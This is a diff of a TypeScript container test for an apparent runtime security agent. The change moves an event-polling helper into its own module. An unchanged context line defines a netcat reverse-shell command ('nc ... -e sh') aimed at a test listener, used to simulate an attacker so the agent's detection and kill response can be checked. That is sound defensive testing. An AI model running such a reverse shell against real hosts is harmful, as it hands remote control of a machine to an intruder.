@@ -13,10 +13,10 @@ import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
 import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { docker, missingForContainerTests, TEST_IMAGES, uniqueName } from '../helpers/host.js';
-import { startAgent, readEvents, type RunningAgent } from '../helpers/agent-process.js';
+import { startAgent, type RunningAgent } from '../helpers/agent-process.js';
+import { eventsUntil } from './events.js';
 import { createCatcher, type Catcher } from './listener.js';
 import { killProcess } from '../../src/respond/index.js';
-import type { VigilEvent } from '../../src/events/index.js';
 
 const skip = missingForContainerTests();
 // A live session: the attacker's first command, and the shell waits for the next (the
@@ -43,18 +43,6 @@ function killPolicy(): string {
 function runContainer(name: string, image: string, script: string): string {
   const r = spawnSync('docker', ['run', '--rm', '--pull', 'never', '--name', name, image, 'sh', '-c', script], { encoding: 'utf8', timeout: 60_000 });
   return (r.stdout ?? '') + (r.stderr ?? '');
-}
-
-/** Polls the agent's log until pred holds over this container's events (bounded). */
-async function eventsUntil(agent: RunningAgent, name: string, pred: (es: VigilEvent[]) => boolean, timeoutMs = 20_000): Promise<VigilEvent[]> {
-  const end = Date.now() + timeoutMs;
-  let es: VigilEvent[] = [];
-  while (Date.now() < end) {
-    es = readEvents(agent.logPath).filter((e) => e.container.name === name);
-    if (pred(es)) return es;
-    await new Promise((r) => setTimeout(r, 100));
-  }
-  return es;
 }
 
 const reverseShell = (c: Catcher) => `nc ${c.address} ${c.port} -e sh; echo "nc exit $?"`;
